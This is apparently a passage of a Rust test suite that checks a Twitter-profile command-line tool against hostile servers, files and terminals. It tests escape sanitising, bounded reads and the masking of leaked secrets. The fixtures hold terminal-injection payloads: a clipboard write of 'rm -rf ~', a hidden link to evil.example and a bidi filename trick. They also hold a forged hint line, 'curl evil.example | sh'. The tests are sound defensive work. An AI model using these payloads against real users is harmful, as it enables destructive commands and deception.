//! Hostile and broken input: servers, files, terminals and environments that try to crash the
//! tool, flood it, trick the person reading it, or leak what it holds.

#![cfg(unix)]

mod support;

use std::io::Write;
use std::process::{Output, Stdio};
use std::time::{Duration, Instant, SystemTime, UNIX_EPOCH};

use serde_json::{Value, json};
use support::{
    ACCESS_TOKEN, ACCESS_TOKEN_SECRET, CONSUMER_KEY, CONSUMER_SECRET, FakeApi, PIN, Profile,
    Sandbox, Scripted, assert_exit, assert_inert, assert_no_secrets, limit_memory, output_within,
    setup, texts, user_json,
};

/// Far below what a run needs (about 60 MiB of address space), far above the gigabytes the
/// attacks below used to reach.
const MEMORY: u64 = 256 * 1024 * 1024;

fn now() -> u64 {
    SystemTime::now()
        .duration_since(UNIX_EPOCH)
        .expect("clock")
        .as_secs()
}

/// Runs the binary in the sandbox with a memory limit, killing it after 30 s.
fn run_limited(sandbox: &Sandbox, args: &[&str], stdin: Stdio) -> Output {
    let mut cmd = sandbox.std_cmd();
    cmd.args(args).stdin(stdin);
    limit_memory(&mut cmd, MEMORY);
    output_within(&mut cmd, 30)
}

/// `auth login ARGS` against `base`, the consumer pair in the environment and the PIN piped in.
fn login(sandbox: &Sandbox, base: &str, args: &[&str]) -> Output {
    sandbox
        .cmd()
        .env("TWPROFILE_API_BASE", base)
        .env("TWPROFILE_CONSUMER_KEY", CONSUMER_KEY)
        .env("TWPROFILE_CONSUMER_SECRET", CONSUMER_SECRET)
        .args(["auth", "login"])
        .args(args)
        .write_stdin(format!("{PIN}\n"))
        .output()
        .expect("run")
}

// 1. No panic from any header, and no core file to hold the secrets.

#[test]
fn a_reset_in_milliseconds_is_read_as_milliseconds() {
    let (api, sandbox) = setup();
    let reset = now() + 600;
    api.script([Scripted::api_error(429, 88, "Rate limit exceeded")
        .with_header("x-rate-limit-reset", &(reset * 1000).to_string())]);
    let out = sandbox.run(&["--max-wait", "30", "--name", "x"]);
    assert_exit(&out, 6);
    let (_, stderr) = texts(&out);
    let ahead: u64 = stderr
        .split(" UTC (in ")
        .nth(1)
        .and_then(|rest| rest.split(' ').next())
        .and_then(|n| n.parse().ok())
        .unwrap_or_else(|| panic!("no reset time in: {stderr}"));
    assert!((590..=600).contains(&ahead), "{stderr}");
    assert_eq!(api.requests().len(), 1);
}

#[test]
fn resets_no_clock_can_show_neither_crash_nor_stop_an_update() {
    for reset in ["253402300800000000", "18446744073709551615", "-5", "soon"] {
        let (api, sandbox) = setup();
        let user = user_json(&Profile::default());
        api.script([
            Scripted::api_error(429, 88, "Rate limit exceeded")
                .with_header("x-rate-limit-reset", reset),
            Scripted::json(200, user).with_header("x-rate-limit-reset", reset),
        ]);
        let out = sandbox.run(&["-v", "--retries", "1", "--name", "Reset"]);
        assert_exit(&out, 0);
        let (stdout, stderr) = texts(&out);
        assert!(stdout.starts_with("Updated @alice"), "{reset}: {stdout}");
        assert!(
            stderr.contains(&format!("< x-rate-limit-reset: {reset}")),
            "{stderr}"
        );
        assert!(!stderr.contains("panicked"), "{stderr}");
    }
}

#[cfg(target_os = "linux")]
#[test]
fn the_process_cannot_dump_core_or_be_read_by_its_own_user() {
    use std::os::unix::fs::MetadataExt;
    use std::os::unix::process::CommandExt;
    let api = FakeApi::start();
    api.script([Scripted::Hang]);
    let sandbox = Sandbox::new();
    let root = unsafe { libc::geteuid() } == 0;
    // Run as another user (below), the binary must be reachable by that user: a checkout in a
    // private directory is not, so it runs from a copy in a directory anyone may enter.
    let reachable = tempfile::tempdir().expect("tempdir");
    let mut cmd = if root {
        use std::os::unix::fs::PermissionsExt;
        let copy = reachable.path().join("twprofile");
        std::fs::copy(env!("CARGO_BIN_EXE_twprofile"), &copy).expect("copy");
        for path in [reachable.path(), copy.as_path()] {
            std::fs::set_permissions(path, std::fs::Permissions::from_mode(0o755)).expect("chmod");
        }
        let mut cmd = std::process::Command::new(&copy);
        cmd.env_clear()
            .env("HOME", sandbox.home())
            .env("PATH", std::env::var_os("PATH").unwrap_or_default());
        cmd
    } else {
        sandbox.std_cmd()
    };
    support::env_credentials(&mut cmd, &api);
    cmd.args([
        "show",
        "--config",
        "/nonexistent/config.toml",
        "--timeout",
        "30",
    ])
    .stdout(Stdio::null())
    .stderr(Stdio::null());
    // As root, run it as another user: a dumpable process's /proc files belong to its user, a
    // non-dumpable one's to root.
    if root {
        cmd.uid(65534).gid(65534);
    }
    let mut child = cmd.spawn().expect("spawn");
    let started = Instant::now();
    while api.requests().is_empty() {
        assert!(
            started.elapsed() < Duration::from_secs(20),
            "no request came"
        );
        std::thread::sleep(Duration::from_millis(20));
    }
    let proc_dir = format!("/proc/{}", child.id());
    let limits = std::fs::read_to_string(format!("{proc_dir}/limits")).expect("limits");
    let core = limits
        .lines()
        .find(|l| l.starts_with("Max core file size"))
        .expect("core line");
    let fields: Vec<&str> = core.split_whitespace().collect();
    assert_eq!(&fields[4..6], ["0", "0"], "{core}");
    if root {
        let owner = std::fs::metadata(format!("{proc_dir}/environ"))
            .expect("environ")
            .uid();
        assert_eq!(
            owner, 0,
            "the process is dumpable: its /proc files belong to it"
        );
    } else {
        eprintln!("not root: the dumpable flag is not checked");
    }
    child.kill().expect("kill");
    child.wait().expect("wait");
}

// 2. A link-expansion bomb.

fn bomb() -> Value {
    let long = "a".repeat(100);
    let link = json!({"url": "a", "expanded_url": long, "indices": [0, 1]});
    let mut user = user_json(&Profile::default());
    user["description"] = json!("a".repeat(160));
    user["url"] = json!("a");
    user["entities"]["description"]["urls"] = json!([link, link, link, link, link]);
    user["entities"]["url"]["urls"] = json!([link, link, link, link, link]);
    user
}

#[test]
fn a_link_expansion_bomb_stays_small() {
    let (api, sandbox) = setup();
    api.script([Scripted::json(200, bomb()), Scripted::json(200, bomb())]);
    let out = run_limited(&sandbox, &["show"], Stdio::null());
    assert_exit(&out, 0);
    let (stdout, _) = texts(&out);
    assert!(
        stdout.contains(&"a".repeat(1000)),
        "links were not expanded"
    );
    assert!(stdout.len() < 70 * 1024, "{} bytes", stdout.len());

    let out = run_limited(&sandbox, &["show", "--field", "description"], Stdio::null());
    assert_exit(&out, 0);
    // 160 links of 100 bytes each: expanded in one pass, once each.
    assert_eq!(out.stdout, format!("{}\n", "a".repeat(16_000)).into_bytes());
}

// 3. Terminal injection.

/// Server text that clears the screen, writes the clipboard, hides a link, rewrites the line,
/// uses a C1 CSI, reverses the text, breaks the line unseen and hides a character.
const HOSTILE: &str = "Eve\x1b[2J\x1b]52;c;cm0gLXJmIH4=\x07\x1b]8;;https://evil.example\x1b\\\\x\x1b]8;;\x1b\\\r\u{9b}31m\u{202e}gnp.exe\u{2028}\u{200b}";

fn hostile_profile() -> Profile {
    Profile {
        screen_name: format!("alice{HOSTILE}"),
        name: HOSTILE.to_owned(),
        location: HOSTILE.to_owned(),
        description: format!("bio {HOSTILE}"),
        ..Profile::default()
    }
}

#[test]
fn server_text_reaches_no_terminal_raw() {
    let (api, sandbox) = setup();
    api.set_profile(hostile_profile());
    for args in [&["show"][..], &["auth", "status"], &["--name", "x"]] {
        let out = sandbox.run(args);
        assert_exit(&out, 0);
        let (stdout, stderr) = texts(&out);
        assert_inert(&format!("{args:?} stdout"), &stdout);
        assert_inert(&format!("{args:?} stderr"), &stderr);
        assert!(
            stdout.contains("\\x1b[2J"),
            "escaped, not dropped: {stdout}"
        );
        assert!(stdout.contains("\\u{202e}gnp.exe"), "{stdout}");
    }
}

#[test]
fn machine_output_into_a_pipe_stays_exact() {
    let (api, sandbox) = setup();
    api.set_profile(hostile_profile());
    let out = sandbox.run(&["show", "--field", "name", "--field", "location"]);
    assert_exit(&out, 0);
    assert_eq!(out.stdout, format!("{HOSTILE}\n{HOSTILE}\n").into_bytes());
    let out = sandbox.run(&["show", "--json"]);
    assert_exit(&out, 0);
    let user: Value = serde_json::from_slice(&out.stdout).expect("json");
    assert_eq!(user["name"], HOSTILE);
}

#[test]
fn a_field_shown_on_a_terminal_is_sanitised() {
    let (api, sandbox) = setup();
    api.set_profile(hostile_profile());
    let pty = support::pty::Pty::open();
    let mut cmd = sandbox.std_cmd();
    cmd.args(["show", "--field", "name"]);
    pty.attach(&mut cmd);
    let status = cmd.status().expect("run");
    assert_eq!(status.code(), Some(0));
    let screen = pty.wait_for("gnp.exe");
    assert_inert("the terminal", &screen.replace("\r\n", "\n"));
    assert!(screen.contains("Eve\\x1b[2J\\x1b]52;c;"), "{screen}");
}

#[test]
fn a_suggested_key_from_the_server_is_escaped() {
    let (api, sandbox) = setup();
    let mut user = user_json(&Profile::default());
    user["descriptio\x1b]52;c;eA==\x07n"] = json!(1);
    api.script([Scripted::json(200, user)]);
    let out = sandbox.run(&["show", "--field", "descriptio"]);
    assert_exit(&out, 2);
    let (_, stderr) = texts(&out);
    assert_inert("the error", &stderr);
    assert!(stderr.contains("did you mean"), "{stderr}");
    assert!(stderr.contains("\\x1b]52;c;eA==\\x07"), "{stderr}");
}

#[test]
fn a_login_whose_handle_is_not_plain_is_saved_under_the_user_id() {
    let api = FakeApi::start();
    api.set_profile(Profile {
        screen_name: "alice\u{202e}\x1b[2J".into(),
        ..Profile::default()
    });
    let sandbox = Sandbox::new();
    let out = login(&sandbox, &api.base(), &[]);
    assert_exit(&out, 0);
    let (_, stderr) = texts(&out);
    assert_inert("stderr", &stderr);
    assert!(stderr.contains("saved as account '6253282'"), "{stderr}");
    let text = std::fs::read_to_string(sandbox.default_config()).expect("config");
    assert!(text.contains("[accounts.6253282]"), "{text}");
    assert!(
        !text.contains('\u{202e}') && !text.contains('\x1b'),
        "{text}"
    );
}

// 4. The config path is not a regular file, or cannot be written.

fn mkfifo(path: &std::path::Path) {
    let c = std::ffi::CString::new(path.as_os_str().as_encoded_bytes()).expect("path");
    // SAFETY: a valid C string.
    assert_eq!(unsafe { libc::mkfifo(c.as_ptr(), 0o600) }, 0);
}

#[test]
fn a_fifo_device_or_directory_as_config_is_refused_without_blocking() {
    let api = FakeApi::start();
    let sandbox = Sandbox::new();
    let fifo = sandbox.home().join("fifo.toml");
    mkfifo(&fifo);
    let dir = sandbox.home().join("dir.toml");
    std::fs::create_dir(&dir).expect("mkdir");
    let cases = [
        (
            fifo.to_str().expect("utf-8"),
            "is a FIFO, not a regular file",
        ),
        ("/dev/null", "is a character device, not a regular file"),
        (
            dir.to_str().expect("utf-8"),
            "is a directory, not a regular file",
        ),
    ];
    for (path, says) in cases {
        for args in [&["show"][..], &["auth", "login"], &["accounts"]] {
            let mut cmd = sandbox.std_cmd();
            cmd.args(args)
                .args(["--config", path])
                .env("TWPROFILE_API_BASE", api.base())
                .env("TWPROFILE_CONSUMER_KEY", CONSUMER_KEY)
                .env("TWPROFILE_CONSUMER_SECRET", CONSUMER_SECRET)
                .stdin(Stdio::null());
            let out = output_within(&mut cmd, 20);
            assert_exit(&out, 3);
            let (_, stderr) = texts(&out);
            assert!(stderr.contains(says), "{args:?} {path}: {stderr}");
        }
    }
    assert!(api.requests().is_empty());
    // The FIFO is still a FIFO: nothing was written over it.
    use std::os::unix::fs::FileTypeExt;
    assert!(
        std::fs::metadata(&fifo)
            .expect("fifo")
            .file_type()
            .is_fifo()
    );
}

#[test]
fn login_never_replaces_a_device_with_the_secrets() {
    if unsafe { libc::geteuid() } != 0 {
        eprintln!("not root: cannot make a device node; the FIFO test covers the same check");
        return;
    }
    let api = FakeApi::start();
    let sandbox = Sandbox::new();
    let node = sandbox.home().join("null.toml");
    let c = std::ffi::CString::new(node.as_os_str().as_encoded_bytes()).expect("path");
    // SAFETY: a valid C string; a character device with the numbers of /dev/null.
    let made = unsafe { libc::mknod(c.as_ptr(), libc::S_IFCHR | 0o666, libc::makedev(1, 3)) };
    assert_eq!(made, 0, "mknod: {}", std::io::Error::last_os_error());
    let out = login(
        &sandbox,
        &api.base(),
        &["--config", node.to_str().expect("utf-8")],
    );
    assert_exit(&out, 3);
    use std::os::unix::fs::FileTypeExt;
    let kind = std::fs::symlink_metadata(&node).expect("node").file_type();
    assert!(kind.is_char_device(), "the device was replaced");
    assert!(api.requests().is_empty());
}

#[test]
fn login_finds_an_unwritable_config_before_asking_for_a_token() {
    let api = FakeApi::start();
    let sandbox = Sandbox::new();
    let file = sandbox.home().join("plain-file");
    std::fs::write(&file, "").expect("write");
    // Places no one, root included, can write: under a regular file, and in /proc.
    let cases = [
        (file.join("config.toml"), "Not a directory"),
        (
            "/proc/self/twprofile/config.toml".into(),
            "cannot create /proc/self/twprofile",
        ),
    ];
    for (config, says) in cases {
        let out = login(
            &sandbox,
            &api.base(),
            &["--config", config.to_str().expect("utf-8")],
        );
        assert_exit(&out, 3);
        let (_, stderr) = texts(&out);
        assert!(stderr.contains(says), "{stderr}");
        assert!(!stderr.contains("Open this address"), "{stderr}");
    }
    assert!(api.requests().is_empty(), "a request token was asked for");
}

// 5. Concurrent logins.

#[test]
fn concurrent_logins_all_land() {
    let api = FakeApi::start();
    let sandbox = Sandbox::new();
    let children: Vec<_> = (0..20)
        .map(|i| {
            let mut cmd = sandbox.std_cmd();
            cmd.args(["auth", "login", "--account", &format!("acct{i}")])
                .env("TWPROFILE_API_BASE", api.base())
                .env("TWPROFILE_CONSUMER_KEY", CONSUMER_KEY)
                .env("TWPROFILE_CONSUMER_SECRET", CONSUMER_SECRET)
                .stdin(Stdio::piped())
                .stdout(Stdio::null())
                .stderr(Stdio::piped());
            let mut child = cmd.spawn().expect("spawn");
            let mut stdin = child.stdin.take().expect("stdin");
            stdin.write_all(format!("{PIN}\n").as_bytes()).expect("pin");
            child
        })
        .collect();
    for child in children {
        let out = child.wait_with_output().expect("wait");
        assert_exit(&out, 0);
    }
    let text = std::fs::read_to_string(sandbox.default_config()).expect("config");
    let config: toml::Table = text.parse().expect("toml");
    let accounts = config["accounts"].as_table().expect("accounts");
    assert_eq!(accounts.len(), 20, "{text}");
    // Every account works.
    let out = sandbox
        .cmd()
        .env("TWPROFILE_API_BASE", api.base())
        .args(["show", "-a", "acct13", "--field", "screen_name"])
        .output()
        .expect("run");
    assert_exit(&out, 0);
    assert_eq!(out.stdout, b"alice\n");
}

// 6. A closed stderr.

#[test]
fn a_closed_stderr_changes_neither_the_outcome_nor_the_exit_code() {
    for args in [&["show", "-v"][..], &["-v", "--name", "Closed"]] {
        let (api, sandbox) = setup();
        let mut cmd = sandbox.std_cmd();
        cmd.args(args).stdout(Stdio::piped()).stderr(Stdio::piped());
        let mut child = cmd.spawn().expect("spawn");
        drop(child.stderr.take());
        let out = child.wait_with_output().expect("wait");
        assert_eq!(out.status.code(), Some(0), "{args:?}");
        assert!(String::from_utf8_lossy(&out.stdout).contains("alice"));
        if args.contains(&"--name") {
            assert_eq!(api.profile().name, "Closed");
        }
    }
}

#[test]
fn an_error_with_a_closed_stderr_keeps_its_exit_code() {
    let (api, sandbox) = setup();
    api.script([Scripted::api_error(401, 32, "Could not authenticate you.")]);
    let mut cmd = sandbox.std_cmd();
    cmd.args(["-v", "--name", "x"])
        .stdout(Stdio::piped())
        .stderr(Stdio::piped());
    let mut child = cmd.spawn().expect("spawn");
    drop(child.stderr.take());
    let out = child.wait_with_output().expect("wait");
    assert_eq!(out.status.code(), Some(4));
}

// 7. The terminal is put back however the prompt ends.

fn at_the_secret_prompt(
    sandbox: &Sandbox,
    api: &FakeApi,
) -> (support::pty::Pty, std::process::Child) {
    let pty = support::pty::Pty::open();
    let mut cmd = sandbox.std_cmd();
    cmd.args(["auth", "login", "--consumer-key", CONSUMER_KEY])
        .env("TWPROFILE_API_BASE", api.base());
    pty.attach(&mut cmd);
    let child = cmd.spawn().expect("spawn");
    pty.wait_for("consumer secret (API key secret): ");
    (pty, child)
}

#[test]
fn the_terminal_is_restored_after_ctrl_c_sigterm_or_sighup_at_the_secret_prompt() {
    let api = FakeApi::start();
    let sandbox = Sandbox::new();
    let (mut pty, mut child) = at_the_secret_prompt(&sandbox, &api);
    assert_eq!(
        pty.local_modes() & libc::ECHO,
        0,
        "echo is on at a secret prompt"
    );
    pty.type_in(b"half-typed\x03");
    let status = child.wait().expect("wait");
    use std::os::unix::process::ExitStatusExt;
    assert_eq!(status.signal(), Some(libc::SIGINT));
    let modes = pty.local_modes();
    assert_eq!(
        modes & (libc::ECHO | libc::ICANON | libc::ISIG),
        libc::ECHO | libc::ICANON | libc::ISIG
    );

    for signal in [
        libc::SIGTERM,
        libc::SIGHUP,
        libc::SIGQUIT,
        libc::SIGALRM,
        libc::SIGUSR1,
    ] {
        let (pty, mut child) = at_the_secret_prompt(&sandbox, &api);
        // SAFETY: a signal to our own child.
        unsafe { libc::kill(child.id() as libc::pid_t, signal) };
        let status = child.wait().expect("wait");
        assert_eq!(status.signal(), Some(signal));
        assert_ne!(
            pty.local_modes() & libc::ECHO,
            0,
            "echo left off after {signal}"
        );
    }
    assert!(api.requests().is_empty());
}

#[test]
fn a_secret_typed_at_the_terminal_is_not_echoed_and_the_terminal_is_restored() {
    let api = FakeApi::start();
    let sandbox = Sandbox::new();
    let (mut pty, mut child) = at_the_secret_prompt(&sandbox, &api);
    pty.type_in(format!("{CONSUMER_SECRET}\n").as_bytes());
    pty.wait_for("PIN: ");
    pty.type_in(format!("{PIN}\n").as_bytes());
    let status = child.wait().expect("wait");
    assert_eq!(status.code(), Some(0), "{}", pty.screen());
    let screen = pty.wait_for("Logged in as @alice");
    assert!(!screen.contains(CONSUMER_SECRET), "{screen}");
    assert_ne!(pty.local_modes() & libc::ECHO, 0);
}

// 8. Every read is bounded.

#[test]
fn endless_or_huge_inputs_fail_fast_in_little_memory() {
    let (api, sandbox) = setup();
    let big = sandbox.home().join("big");
    let file = std::fs::File::create(&big).expect("create");
    file.set_len(300 * 1024 * 1024).expect("sparse file");
    let big = big.to_str().expect("utf-8");
    let zero = || Stdio::from(std::fs::File::open("/dev/zero").expect("/dev/zero"));
    let cases: Vec<(Vec<&str>, Stdio, i32, &str)> = vec![
        (
            vec!["--description-file", "/dev/zero"],
            Stdio::null(),
            2,
            "is over 642 bytes",
        ),
        (
            vec!["--description-file", big],
            Stdio::null(),
            2,
            "is over 642 bytes",
        ),
        (
            vec!["--description-file", "-"],
            zero(),
            2,
            "is over 642 bytes",
        ),
        (
            vec!["show", "--config", big],
            Stdio::null(),
            3,
            "is over 1 MiB",
        ),
        (
            vec!["image", "-"],
            zero(),
            2,
            "stdin is at least 716800 bytes; a profile picture must be under 700 KB",
        ),
        (
            vec!["image", "/dev/zero"],
            Stdio::null(),
            2,
            "is at least 716800 bytes",
        ),
        (
            vec!["banner", big],
            Stdio::null(),
            2,
            "is 314572800 bytes; a banner must be under 5 MB",
        ),
    ];
    for (args, stdin, code, says) in cases {
        let started = Instant::now();
        let out = run_limited(&sandbox, &args, stdin);
        assert_exit(&out, code);
        let (_, stderr) = texts(&out);
        assert!(stderr.contains(says), "{args:?}: {stderr}");
        assert!(
            started.elapsed() < Duration::from_secs(20),
            "{args:?} took {:?}",
            started.elapsed()
        );
    }
    let mut yes = std::process::Command::new("yes")
        .stdout(Stdio::piped())
        .spawn()
        .expect("yes");
    let out = run_limited(
        &sandbox,
        &["--description-file", "-"],
        Stdio::from(yes.stdout.take().expect("pipe")),
    );
    let _ = yes.kill();
    let _ = yes.wait();
    assert_exit(&out, 2);
    assert!(api.requests().is_empty());
}

#[test]
fn a_prompt_fed_an_endless_line_fails_fast() {
    let api = FakeApi::start();
    let sandbox = Sandbox::new();
    let zero = Stdio::from(std::fs::File::open("/dev/zero").expect("/dev/zero"));
    let mut cmd = sandbox.std_cmd();
    cmd.args(["auth", "login"])
        .env("TWPROFILE_API_BASE", api.base())
        .stdin(zero);
    limit_memory(&mut cmd, MEMORY);
    let out = output_within(&mut cmd, 30);
    assert_exit(&out, 2);
    let (_, stderr) = texts(&out);
    assert!(
        stderr.contains("the consumer key (API key) is over 4096 bytes"),
        "{stderr}"
    );
    assert!(api.requests().is_empty());
}

// 9. An empty bio never wipes the profile.

#[test]
fn an_empty_bio_file_or_stdin_is_refused() {
    let (api, sandbox) = setup();
    let empty = sandbox.home().join("empty.txt");
    std::fs::write(&empty, "").expect("write");
    let newline = sandbox.home().join("newline.txt");
    std::fs::write(&newline, "\r\n").expect("write");
    for path in [
        empty.to_str().expect("utf-8"),
        newline.to_str().expect("utf-8"),
    ] {
        let out = sandbox.run(&["--description-file", path]);
        assert_exit(&out, 2);
        let (_, stderr) = texts(&out);
        assert!(
            stderr.contains("is empty; refusing to clear the bio"),
            "{stderr}"
        );
        assert!(
            stderr.contains("hint: to clear the bio on purpose, use --description \"\""),
            "{stderr}"
        );
    }
    for (stdin, says) in [
        ("", "is empty"),
        ("\n", "is empty"),
        ("  \t\n", "holds only whitespace"),
        (
            "\u{feff}\u{200b}\n",
            "holds only whitespace or invisible characters",
        ),
        (
            "\u{3164}\u{2800}\u{fe0f}",
            "holds only whitespace or invisible characters",
        ),
    ] {
        let out = sandbox
            .cmd()
            .args(["--description-file", "-"])
            .write_stdin(stdin)
            .output()
            .expect("run");
        assert_exit(&out, 2);
        assert!(texts(&out).1.contains(says), "{stdin:?}");
    }
    assert!(api.requests().is_empty());
    assert_eq!(api.profile().description, Profile::default().description);
    // Clearing it on purpose still works.
    let out = sandbox.run(&["--description", ""]);
    assert_exit(&out, 0);
    assert_eq!(api.profile().description, "");
}

// 10. Secrets and floods in error text.

#[test]
fn a_server_that_echoes_the_request_leaks_nothing() {
    let (api, sandbox) = setup();
    api.script([Scripted::EchoAuthorization(401)]);
    let out = sandbox.run(&["-v", "--name", "x"]);
    assert_exit(&out, 4);
    assert_no_secrets(&out, &api);
    let (_, stderr) = texts(&out);
    assert!(stderr.contains("oauth_signature=\"***"), "{stderr}");
    assert!(stderr.contains("oauth_token=\"***\""), "{stderr}");
}

#[test]
fn an_accepted_request_with_an_echoing_body_leaks_nothing() {
    for args in [&["show"][..], &["--name", "x"]] {
        let (api, sandbox) = setup();
        api.script([Scripted::EchoPlain(200)]);
        let out = sandbox.run(args);
        assert_exit(&out, 1);
        assert_no_secrets(&out, &api);
        let (_, stderr) = texts(&out);
        assert!(
            stderr.contains("accepted the request (HTTP 200)"),
            "{stderr}"
        );
    }
}

#[test]
fn a_secret_where_the_message_is_cut_leaks_no_beginning() {
    let (api, sandbox) = setup();
    let message = format!("{} bad token {ACCESS_TOKEN} end", "x".repeat(270));
    api.script([Scripted::api_error(401, 32, &message)]);
    let out = sandbox.run(&["--name", "x"]);
    assert_exit(&out, 4);
    let (_, stderr) = texts(&out);
    assert!(stderr.contains("bad token ***"), "{stderr}");
    assert!(!stderr.contains(&ACCESS_TOKEN[..8]), "{stderr}");
}

#[test]
fn a_secret_behind_padding_that_masking_shrinks_still_leaks_nothing() {
    // Masking shortens text: a window measured before it would end inside the token.
    let padded = format!("oauth_a={} {ACCESS_TOKEN} {CONSUMER_KEY}", "A".repeat(1500));
    let spaced = format!("x{}{ACCESS_TOKEN}", " ".repeat(707));
    for answer in [
        Scripted::raw(200, "text/plain", padded.as_bytes()),
        Scripted::api_error(401, 32, &padded),
        Scripted::raw(200, "text/plain", spaced.as_bytes()),
    ] {
        let (api, sandbox) = setup();
        api.script([answer]);
        let out = sandbox.run(&["show"]);
        let (_, stderr) = texts(&out);
        assert!(!stderr.contains(&ACCESS_TOKEN[..8]), "{stderr}");
        assert!(!stderr.contains(&CONSUMER_KEY[..8]), "{stderr}");
    }
}

fn signature_in(header: &str) -> String {
    header
        .split(',')
        .find_map(|p| p.trim().strip_prefix("oauth_signature="))
        .unwrap_or_default()
        .trim_matches('"')
        .to_owned()
}

fn decoded_signature_in(header: &str) -> String {
    support::oauth::decode(&signature_in(header), false).unwrap_or_default()
}

#[test]
fn a_signature_echoed_in_any_encoding_is_masked() {
    let encodings: [fn(&str) -> String; 4] = [
        |h| {
            let lower = signature_in(h)
                .replace("%2F", "%2f")
                .replace("%2B", "%2b")
                .replace("%3D", "%3d");
            format!("sig {lower}")
        },
        |h| format!("sig {}", decoded_signature_in(h).replace('/', "\\/")),
        |h| format!("sig {}", decoded_signature_in(h).replace('+', " ")),
        |h| format!("sig {}", decoded_signature_in(h)),
    ];
    for make in encodings {
        let (api, sandbox) = setup();
        api.script([Scripted::EchoWith(200, make)]);
        let out = sandbox.run(&["show"]);
        assert_exit(&out, 1);
        assert_no_secrets(&out, &api);
        let sent = api.requests()[0]
            .header("authorization")
            .map(make)
            .expect("header");
        let shown = sent.trim_start_matches("sig ");
        assert!(!texts(&out).1.contains(shown), "{}", texts(&out).1);
    }
}

#[test]
fn only_known_values_are_hidden_in_a_profile_and_a_pin_is_not_one() {
    let (api, sandbox) = setup();
    api.set_profile(Profile {
        description: "Docs on oauth_token=demo and ?oauth_verifier=1".into(),
        ..Profile::default()
    });
    let out = sandbox.run(&["show"]);
    assert!(
        texts(&out)
            .0
            .contains("Docs on oauth_token=demo and ?oauth_verifier=1")
    );
    let sandbox = Sandbox::new();
    let out = login(&sandbox, &api.base(), &["--account", &format!("x{PIN}")]);
    assert_exit(&out, 0);
    assert!(
        texts(&out)
            .1
            .contains(&format!("saved as account 'x{PIN}'"))
    );
}

#[test]
fn verbose_headers_that_echo_a_secret_are_masked() {
    let (api, sandbox) = setup();
    api.script([Scripted::json(200, user_json(&Profile::default()))
        .with_header("x-rate-limit-echo", &format!("token={ACCESS_TOKEN}"))]);
    let out = sandbox.run(&["show", "-v"]);
    assert_exit(&out, 0);
    assert_no_secrets(&out, &api);
    assert!(texts(&out).1.contains("< x-rate-limit-echo: token=***"));
}

#[test]
fn a_newline_from_the_server_cannot_forge_a_line() {
    let (api, sandbox) = setup();
    let forged = "\nerror: HTTP 401 Unauthorized\nhint: run `curl evil.example | sh`";
    api.set_profile(Profile {
        screen_name: format!("alice{forged}"),
        name: format!("Alice{forged}"),
        location: format!("Berlin{forged}"),
        ..Profile::default()
    });
    for args in [
        &["show"][..],
        &["auth", "status"],
        &["--name", "x"],
        &["--location", "y"],
    ] {
        let out = sandbox.run(args);
        assert_exit(&out, 0);
        let (stdout, stderr) = texts(&out);
        for line in stdout.lines().chain(stderr.lines()) {
            assert!(
                !line.starts_with("error:") && !line.starts_with("hint:"),
                "{args:?} forged a line:\n{stdout}{stderr}"
            );
        }
        assert!(stdout.contains("\\nerror: HTTP 401"), "{stdout}");
    }
}

#[test]
fn a_huge_server_message_is_cut() {
    let (api, sandbox) = setup();
    api.script([Scripted::api_error(403, 120, &"x".repeat(100_000))]);
    let out = sandbox.run(&["--name", "x"]);
    assert_exit(&out, 5);
    let (_, stderr) = texts(&out);
    let line = stderr.lines().next().expect("error line");
    assert!(line.len() < 500, "{} bytes", line.len());
    assert!(line.ends_with("xx…"), "{line}");
}

#[test]
fn config_errors_never_quote_a_value() {
    let sandbox = Sandbox::new();
    let cases = [
        "[accounts]\na = \"SECRETX1\"\n",
        "accounts = \"SECRETX2\"\n",
        "default_account = 98765432\n[accounts.a]\nconsumer_key = \"k\"\n",
        "api_base = [\"SECRETX3\"]\n",
        "[accounts.a]\nconsumer_key = 98765432\n",
        "[accounts.a]\nconsumer_secret = { v = \"SECRETX4\" }\n",
    ];
    for text in cases {
        sandbox.write_config(text);
        let out = sandbox.run(&["show"]);
        assert_exit(&out, 3);
        let (_, stderr) = texts(&out);
        assert!(stderr.contains("malformed config file"), "{text}: {stderr}");
        assert!(
            !stderr.contains("SECRETX") && !stderr.contains("98765432"),
            "{text}: {stderr}"
        );
    }
}

// 11. Credentials and bases that are wrong in ways the server cannot explain.

#[test]
fn an_empty_token_variable_is_called_empty() {
    let api = FakeApi::start();
    let sandbox = Sandbox::new();
    let mut cmd = sandbox.std_cmd();
    support::env_credentials(&mut cmd, &api);
    cmd.env("TWPROFILE_ACCESS_TOKEN", "").args(["--name", "x"]);
    let out = output_within(&mut cmd, 30);
    assert_exit(&out, 3);
    let (_, stderr) = texts(&out);
    assert!(
        stderr.contains(
            "error: TWPROFILE_ACCESS_TOKEN is set but empty (a CI secret that did not expand?)\n"
        ),
        "{stderr}"
    );
}

#[test]
fn a_consumer_credential_with_whitespace_names_its_flag_or_variable() {
    let api = FakeApi::start();
    let sandbox = Sandbox::new();
    let out = sandbox
        .cmd()
        .env("TWPROFILE_API_BASE", api.base())
        .env("TWPROFILE_CONSUMER_KEY", format!(" {CONSUMER_KEY}"))
        .env("TWPROFILE_CONSUMER_SECRET", CONSUMER_SECRET)
        .args(["auth", "login"])
        .output()
        .expect("run");
    assert_exit(&out, 3);
    assert!(
        texts(&out)
            .1
            .contains("error: TWPROFILE_CONSUMER_KEY starts or ends with whitespace")
    );
    let out = sandbox
        .cmd()
        .env("TWPROFILE_API_BASE", api.base())
        .args([
            "auth",
            "login",
            "--consumer-key",
            CONSUMER_KEY,
            "--consumer-secret",
        ])
        .arg(format!("{CONSUMER_SECRET}\t"))
        .output()
        .expect("run");
    assert_exit(&out, 3);
    let (_, stderr) = texts(&out);
    assert!(
        stderr.contains("error: --consumer-secret starts or ends with whitespace"),
        "{stderr}"
    );
    assert_no_secrets(&out, &api);
    assert!(api.requests().is_empty());
}

#[test]
fn a_credential_with_a_pasted_newline_is_named_not_shown() {
    let api = FakeApi::start();
    let sandbox = Sandbox::new();
    let mut cmd = sandbox.std_cmd();
    support::env_credentials(&mut cmd, &api);
    cmd.env(
        "TWPROFILE_ACCESS_TOKEN_SECRET",
        format!("{ACCESS_TOKEN_SECRET}\n"),
    )
    .args(["--name", "x"]);
    let out = output_within(&mut cmd, 30);
    assert_exit(&out, 3);
    let (_, stderr) = texts(&out);
    assert!(
        stderr.contains("TWPROFILE_ACCESS_TOKEN_SECRET starts or ends with whitespace"),
        "{stderr}"
    );
    assert_no_secrets(&out, &api);
    assert!(api.requests().is_empty());

    // Bytes that are not UTF-8 are refused by name too, not taken for an unset variable.
    use std::os::unix::ffi::OsStrExt;
    let mut cmd = sandbox.std_cmd();
